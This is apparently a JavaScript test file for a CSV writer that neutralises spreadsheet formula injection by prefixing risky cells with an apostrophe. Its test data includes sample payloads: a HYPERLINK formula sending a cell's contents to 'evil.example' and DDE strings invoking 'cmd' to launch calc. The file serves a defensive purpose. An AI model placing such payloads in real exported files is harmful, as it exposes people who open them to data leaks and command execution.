import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvLine, csvText, escapeCell, restoreCell } from './csv.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=1+1',
  '+1-2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '＝1+1',
  '-',
  '+',
  '+1 415 555 0100',
];

test('a cell a spreadsheet would run as a formula gets a leading apostrophe', () => {
  for (const f of FORMULAS) assert.equal(escapeCell(f), `'${f}`, JSON.stringify(f));
});

test('plain numbers and ordinary text are data and stay as they are', () => {
  for (const v of [
    '+14155550100',
    '-1.5000',
    '-3',
    '+2.5e3',
    '.5',
    '4155550100',
    'acme',
    '',
    "O'Brien",
    'a=b',
  ])
    assert.equal(escapeCell(v), v, v);
});

test('what is written reads back exactly, including text that starts with an apostrophe', () => {
  for (const v of [...FORMULAS, "'=1", "''=1", "'x", "'", '+14155550100', 'plain']) {
    assert.equal(restoreCell(escapeCell(v)), v, JSON.stringify(v));
  }
  assert.equal(restoreCell("'x"), "'x"); // not something escapeCell writes: left alone
});

test('the writers escape every text cell and quote as CSV needs', () => {
  const text = csvText(['row', 'input'], [[1, '=cmd|"/c calc"!A1']]);
  assert.deepEqual(parse(text), [
    ['row', 'input'],
    ['1', `'=cmd|"/c calc"!A1`],
  ]);
  assert.equal(csvLine([2, '@x', '-1.5', -1.5]), "2,'@x,-1.5,-1.5");
});
